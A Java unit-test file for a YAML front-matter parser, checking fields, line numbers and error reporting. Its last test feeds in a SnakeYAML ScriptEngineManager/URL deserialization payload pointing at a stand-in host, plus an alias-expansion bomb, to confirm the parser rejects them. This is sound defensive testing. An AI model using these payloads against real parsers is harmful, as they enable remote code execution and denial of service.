// Copyright the Throughline authors. Licensed under Apache-2.0, see LICENSE.
package io.throughline.ingest.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FrontMatterTest {
    @Test
    void shouldReadValuesAsWrittenWithTheirLines() {
        var matter = FrontMatter.split("""
                ---
                key: TL-1
                created: 2026-01-02
                # a comment
                Depends-On: [A-1, "B-2", 3]
                tags:
                  - one
                  - yes
                empty:
                nested: {a: b}
                ---
                # Title
                """);

        assertThat(matter.problem()).isEmpty();
        assertThat(matter.fields())
                .containsOnlyKeys("key", "created", "depends_on", "tags")
                .containsEntry("key", new FrontMatter.Field(List.of("TL-1"), 2))
                .containsEntry("created", new FrontMatter.Field(List.of("2026-01-02"), 3))
                .containsEntry("depends_on", new FrontMatter.Field(List.of("A-1", "B-2", "3"), 5))
                .containsEntry("tags", new FrontMatter.Field(List.of("one", "yes"), 6));
        assertThat(matter.body()).isEqualTo("# Title\n");
        assertThat(matter.bodyLine()).isEqualTo(12);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "# Title",
                "---",
                "--- \nno end",
                "----\nkey: A\n----\n",
                " ---\nkey: A\n---\n",
                "text\n---\nkey: A\n---\n"
            })
    void shouldTakeOtherTextAsBody(String text) {
        var matter = FrontMatter.split(text);

        assertThat(matter.fields()).isEmpty();
        assertThat(matter.problem()).isEmpty();
        assertThat(matter.body()).isEqualTo(text);
        assertThat(matter.bodyLine()).isOne();
    }

    @Test
    void shouldAcceptAnEmptyBlock() {
        var matter = FrontMatter.split("---\n---\nbody");

        assertThat(matter.problem()).isEmpty();
        assertThat(matter.body()).isEqualTo("body");
        assertThat(matter.bodyLine()).isEqualTo(3);
    }

    @Test
    void shouldTellWhereYamlIsBroken() {
        var matter = FrontMatter.split("---\nkey: A\ntitle: [one\n---\nbody");

        assertThat(matter.fields()).isEmpty();
        assertThat(matter.body()).isEqualTo("body");
        assertThat(matter.problem()).hasValueSatisfying(problem -> {
            assertThat(problem.line()).isBetween(3, 4);
            assertThat(problem.message()).doesNotContain("\n");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "---\n- just\n- a list\n---\n",
                "---\nonly words\n---\n",
                "---\na: &a [1]\nb: *nowhere\n---\n",
                "---\n\tkey: tabbed\n---\n",
            })
    void shouldReportWhatIsNoListOfFields(String text) {
        assertThat(FrontMatter.split(text).problem()).isPresent();
    }

    @Test
    void shouldBuildNoObjectsAndExpandNothing() {
        var hostile =
                FrontMatter.split("---\nkey: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://x/']]\n---\n");
        assertThat(hostile.fields()).isEmpty();

        var bomb = new StringBuilder("---\na0: &a0 [x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 9; i++) {
            bomb.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ",").repeat(9)));
        }
        var matter = FrontMatter.split(bomb + "key: K\n---\n");
        assertThat(matter.fields().values()).allMatch(field -> field.values().size() < 1_000);

        assertThat(FrontMatter.split("---\n" + "a: ".repeat(10) + "[".repeat(20_000) + "\n---\n")
                        .problem())
                .isPresent();
    }
}
